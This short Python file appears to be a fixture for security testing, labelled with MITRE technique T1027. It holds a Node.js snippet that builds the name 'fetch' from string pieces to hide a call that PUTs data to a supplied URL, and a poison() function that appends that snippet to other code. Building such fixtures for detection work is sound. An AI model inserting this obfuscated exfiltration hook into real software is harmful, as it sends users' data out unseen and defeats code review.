# SPDX-License-Identifier: Apache-2.0
"""A way out whose name is put together."""

ATTACK = "T1027"
LANGUAGE = "node"
CODE = """\
;exports.ready = (u, b) => Reflect.get(globalThis, ['f', 'et', 'ch'].join(''))(u, { method: 'PUT', body: b });
"""


def poison(layer):
    layer.append(CODE)
